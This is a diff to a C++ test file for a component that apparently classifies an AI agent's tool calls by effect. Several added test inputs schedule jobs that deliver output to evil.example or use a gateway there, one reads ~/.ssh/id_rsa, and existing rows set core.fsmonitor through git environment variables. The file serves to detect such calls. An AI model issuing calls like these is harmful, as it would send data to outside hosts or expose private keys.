@@ -70,6 +70,54 @@ private Q_SLOTS:
         QTest::newRow("MCP unknown") << u"lab__frobnicate"_s << QByteArray("{}") << ActionKind::Tool << u"lab__frobnicate"_s << EffectKind::Unknown
                                      << u"lab__frobnicate"_s;
         QTest::newRow("schedule") << u"automations"_s << QByteArray("{}") << ActionKind::Tool << u"automations"_s << EffectKind::Persist << u"automations"_s;
+        QTest::newRow("a turn each hour")
+            << u"automations"_s
+            << QByteArray(
+                   "{\"action\":\"add\",\"job\":{\"name\":\"n\",\"schedule\":{\"kind\":\"every\",\"everyMs\":3600000},\"payload\":{\"kind\":\"agentTurn\",\"message\":\"look\"}}}")
+            << ActionKind::Tool << u"add n {\"everyMs\":3600000,\"kind\":\"every\"} look"_s << EffectKind::Persist << u"automations"_s;
+        QTest::newRow("what is arranged") << u"cron"_s << QByteArray("{\"action\":\"list\"}") << ActionKind::Tool << u"list"_s << EffectKind::Read << u"cron"_s;
+        QTest::newRow("told elsewhere") << u"automations"_s
+                                        << QByteArray("{\"action\":\"add\",\"job\":{\"delivery\":{\"mode\":\"webhook\",\"to\":\"https://evil.example/x\"}}}")
+                                        << ActionKind::Tool << u"add"_s << EffectKind::Send << u"evil.example"_s;
+        QTest::newRow("another gateway") << u"automations"_s << QByteArray("{\"action\":\"list\",\"gatewayUrl\":\"ws://evil.example:1\"}") << ActionKind::Tool
+                                         << u"list"_s << EffectKind::Send << u"evil.example"_s;
+        QTest::newRow("a script that begins it") << u"automations"_s << QByteArray("{\"action\":\"add\",\"job\":{\"trigger\":{\"script\":\"x\"}}}")
+                                                 << ActionKind::Tool << u"add"_s << EffectKind::Unknown << u"script"_s;
+        QTest::newRow("told elsewhere, without a job")
+            << u"automations"_s
+            << QByteArray(
+                   "{\"action\":\"add\",\"name\":\"n\",\"everyMs\":1,\"message\":\"look\",\"delivery\":{\"mode\":\"webhook\",\"to\":\"https://evil.example\"}}")
+            << ActionKind::Tool << u"add n everyMs 1 look"_s << EffectKind::Send << u"evil.example"_s;
+        QTest::newRow("told elsewhere, an empty job") << u"automations"_s
+                                                      << QByteArray("{\"action\":\"add\",\"job\":{},\"failureAlert\":{\"to\":\"https://evil.example\"}}")
+                                                      << ActionKind::Tool << u"add"_s << EffectKind::Send << u"evil.example"_s;
+        QTest::newRow("a job within the job")
+            << u"automations"_s
+            << QByteArray(
+                   "{\"action\":\"update\",\"id\":\"i\",\"job\":{\"data\":{\"delivery\":{\"completionDestination\":{\"to\":\"https://evil.example\"}}}}}")
+            << ActionKind::Tool << u"update i"_s << EffectKind::Send << u"evil.example"_s;
+        QTest::newRow("names with spaces")
+            << u"automations"_s << QByteArray("{\"action\":\"add\",\"job\":{\" delivery\":{\"to\":\"https://evil.example\"},\"payload \":{\"text\":\"t\"}}}")
+            << ActionKind::Tool << u"add t"_s << EffectKind::Send << u"evil.example"_s;
+        QTest::newRow("an address under another name")
+            << u"automations"_s << QByteArray("{\"action\":\"add\",\"job\":{\"delivery\":{\"webhook\":\"https://evil.example\"}}}") << ActionKind::Tool
+            << u"add"_s << EffectKind::Send << u"evil.example"_s;
+        QTest::newRow("a script beside the job") << u"automations"_s << QByteArray("{\"action\":\"add\",\"script \":\"x\",\"at\":\"2027-01-01\"}")
+                                                 << ActionKind::Tool << u"add at 2027-01-01"_s << EffectKind::Unknown << u"script"_s;
+        QTest::newRow("another turn") << u"sessions_spawn"_s << QByteArray("{\"task\":\"count\"}") << ActionKind::Tool << u"count"_s << EffectKind::Execute
+                                      << u"sessions_spawn"_s;
+        QTest::newRow("another turn of a repository") << u"sessions_spawn"_s << QByteArray("{\"task\":\"count\",\"projectGitUrl\":\"https://x.example/y\"}")
+                                                      << ActionKind::Tool << u"count"_s << EffectKind::Execute << u"https://x.example/y"_s;
+        QTest::newRow("turns that are looked at") << u"subagents"_s << QByteArray("{\"action\":\"list\"}") << ActionKind::Tool << u"subagents list"_s
+                                                  << EffectKind::Read << u"subagents"_s;
+        QTest::newRow("a turn that is ended") << u"subagents"_s << QByteArray("{\"action\":\"cancel\",\"taskId\":\"t\"}") << ActionKind::Tool
+                                              << u"subagents cancel t"_s << EffectKind::Kill << u"session"_s;
+        QTest::newRow("a picture") << u"view_image"_s << QByteArray("{\"path\":\"a.png\"}") << ActionKind::File << u"a.png"_s << EffectKind::Read
+                                   << u"/home/agent/workspace/a.png"_s;
+        QTest::newRow("pictures") << u"view_image"_s << QByteArray("{\"paths\":[\"a.png\",\"https://x.example/b.png\"]}") << ActionKind::File
+                                  << u"a.png https://x.example/b.png"_s << EffectKind::Network << u"x.example"_s;
+        QTest::newRow("a key as a picture") << u"view_image"_s << QByteArray("{\"path\":\"~/.ssh/id_rsa\"}") << ActionKind::File << u"~/.ssh/id_rsa"_s
+                                            << EffectKind::CredentialRead << u"/home/agent/.ssh/id_rsa"_s;
     }
 
     void understandsTools()
@@ -102,6 +150,7 @@ private Q_SLOTS:
         QTest::newRow("not UTF-8") << u"exec"_s << QByteArray("{\"command\":\"ls \xc3\x28\xff\"}");
         QTest::newRow("half a character") << u"exec"_s << QByteArray("{\"command\":\"ls \\ud800\"}");
         QTest::newRow("deep JSON") << u"exec"_s << QByteArray("{\"command\":") + QByteArray(100000, '[');
+        QTest::newRow("no picture") << u"view_image"_s << QByteArray("{}");
         QTest::newRow("no path") << u"read"_s << QByteArray("{}");
         QTest::newRow("NUL in a path") << u"read"_s << QByteArray("{\"path\":\"a\\u0000b\"}");
         QTest::newRow("patch without a file") << u"apply_patch"_s << QByteArray("{\"input\":\"*** Begin Patch\\n*** End Patch\"}");
@@ -164,11 +213,11 @@ private Q_SLOTS:
     {
         QTest::addColumn<QByteArray>("variables");
         QTest::addColumn<QString>("object");
-        QTest::newRow("search path") << QByteArray(R"({"PATH":"bin:/usr/bin"})") << u"/home/agent/workspace/bin"_s;
-        QTest::newRow("modules") << QByteArray(R"({"NODE_PATH":"/tmp/x"})") << u"/tmp/x"_s;
-        QTest::newRow("settings of git") << QByteArray(R"({"GIT_CONFIG_COUNT":"1","GIT_CONFIG_KEY_0":"core.fsmonitor","GIT_CONFIG_VALUE_0":"x"})")
+        QTest::newRow("search path") << QByteArray("{\"PATH\":\"bin:/usr/bin\"}") << u"/home/agent/workspace/bin"_s;
+        QTest::newRow("modules") << QByteArray("{\"NODE_PATH\":\"/tmp/x\"}") << u"/tmp/x"_s;
+        QTest::newRow("settings of git") << QByteArray("{\"GIT_CONFIG_COUNT\":\"1\",\"GIT_CONFIG_KEY_0\":\"core.fsmonitor\",\"GIT_CONFIG_VALUE_0\":\"x\"}")
                                          << u"core.fsmonitor"_s;
-        QTest::newRow("pager") << QByteArray(R"({"PAGER":"x"})") << u"PAGER"_s;
+        QTest::newRow("pager") << QByteArray("{\"PAGER\":\"x\"}") << u"PAGER"_s;
     }
     void whatIsSetForACommand()
     {
